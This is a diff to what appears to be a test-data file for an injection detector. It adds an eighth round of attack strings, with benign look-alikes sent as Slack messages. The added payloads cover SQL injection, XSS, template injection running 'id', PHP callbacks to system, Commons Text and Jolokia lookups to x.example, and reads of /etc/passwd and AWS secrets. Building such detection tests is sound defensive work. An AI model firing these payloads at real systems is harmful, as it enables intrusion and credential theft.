@@ -1020,6 +1020,73 @@ BENIGN_7 = [
     "Spring's systemProperties bean is handy in @Value expressions",
 ]
 
+# Round eight, attacks and benign written together after round seven's rules, measured before any change
+# for them: Commons Text lookups, JMX/Jolokia, BeanShell, template filter tags, Mako declarations,
+# callbacks and string transforms in PHP, Deno/Bun file APIs, data: imports.
+SQLI_8 = [
+    "1 and (select top 1 name from master..syslogins)>0",
+    "1' and (select count(*) from information_schema.schemata)>0 and '1'='1",
+    "1 procedure analyse()",
+]
+
+XSS_8 = [
+    "<svg><foreignobject><iframe src=javascript:alert(1)>",
+    "<x oncut=alert(1)>cut me",
+    "<body onbeforeprint=alert(1)>",
+]
+
+SSTI_8 = [
+    "{% filter system %}id{% endfilter %}",
+    "{% apply system %}id{% end %}",
+    "{{ `id` }}",
+    "<%! import os %>${os.popen('id').read()}",
+    "{{ _context|json_encode }}",
+    "{{ request.application.__self__._get_data_for_json.__globals__['json'] }}",
+]
+
+PHP_8 = [
+    "preg_replace_callback('/.*/', 'system', 'id')",
+    "mb_ereg_replace_callback('.*', 'passthru', 'id')",
+    "array_udiff([1], [2], 'system')",
+    "str_replace('x','','sxystem')('id')",
+    "substr('xsystem',1)('id')",
+    "sprintf('%s%s','sys','tem')('id')",
+]
+
+JAVA_8 = [
+    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
+    "${url:UTF-8:http://x.example/}",
+    "${file:UTF-8:/etc/passwd}",
+    "${dns:address|x.example}",
+    ("/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfi"
+     "gurator/reloadByURL/http:!/!/x.example/l.xml"),
+    "service:jmx:rmi:///jndi/rmi://x.example:1099/jmxrmi",
+    "bsh.XThis",
+    "[\"org.apache.commons.dbcp.BasicDataSource\",{\"driverClassName\":\"x\"}]",
+]
+
+NODE_8 = [
+    "import('data:text/javascript,console.log(process.env)')",
+    "Deno.readTextFile('/etc/passwd')",
+    "Deno.env.get('AWS_SECRET_ACCESS_KEY')",
+    "Bun.file('/etc/passwd').text()",
+    "Bun.$`id`",
+    "process.nextTick(() => require('child_process').exec('id'))",
+]
+
+BENIGN_8 = [
+    "use ${file:-default.txt} in the bash script",
+    "bash substring: ${url:0:8} gives the scheme",
+    "Jinja: {% filter upper %}hello{% endfilter %}",
+    "Mako's <%! %> blocks run at module level, avoid them",
+    "preg_replace_callback is cleaner than the old /e modifier",
+    "Deno.readTextFile is async, use the Sync variant in scripts",
+    "Bun.file is faster than fs for static assets",
+    "str_replace('a', 'b', $s) is all you need here",
+    "the jolokia endpoint is disabled in prod",
+    "{{ `template literal` }} isn't valid in Vue 2 templates",
+]
+
 # Prototype pollution through query keys and JSON documents (whole-request placements).
 POLLUTION_QUERIES = [
     "__proto__[admin]=1",
@@ -1044,7 +1111,8 @@ POLLUTION_JSON: list[Any] = [
 
 ROUND_LISTS = {2: (SQLI_2, XSS_2, SSTI_2, PHP_2, JAVA_2, NODE_2), 3: (SQLI_3, XSS_3, SSTI_3, PHP_3, JAVA_3, NODE_3),
                4: (SQLI_4, XSS_4, SSTI_4, PHP_4, JAVA_4, NODE_4), 5: (SQLI_5, XSS_5, SSTI_5, PHP_5, JAVA_5, NODE_5),
-               6: (SQLI_6, XSS_6, SSTI_6, PHP_6, JAVA_6, NODE_6), 7: (SQLI_7, XSS_7, SSTI_7, PHP_7, JAVA_7, NODE_7)}
+               6: (SQLI_6, XSS_6, SSTI_6, PHP_6, JAVA_6, NODE_6), 7: (SQLI_7, XSS_7, SSTI_7, PHP_7, JAVA_7, NODE_7),
+               8: (SQLI_8, XSS_8, SSTI_8, PHP_8, JAVA_8, NODE_8)}
 FAMILIES = {family: first + [p for lists in ROUND_LISTS.values() for p in lists[k]]
             for k, (family, first) in enumerate((("sqli", SQLI), ("xss", XSS), ("ssti", SSTI), ("php", PHP),
                                                  ("java", JAVA), ("nodejs", NODE)))}
@@ -1219,7 +1287,7 @@ PROSE = [
 
 def benign() -> Iterator[dict[str, Any]]:
     n = 0
-    for text in SLACK_TEXTS + BENIGN_6 + BENIGN_7:
+    for text in SLACK_TEXTS + BENIGN_6 + BENIGN_7 + BENIGN_8:
         n += 1
         event = {"type": "message", "user": "U012345678", "text": text, "ts": f"1719000{n:03d}.000100",
                  "channel": "C0123456789", "event_ts": f"1719000{n:03d}.000100"}
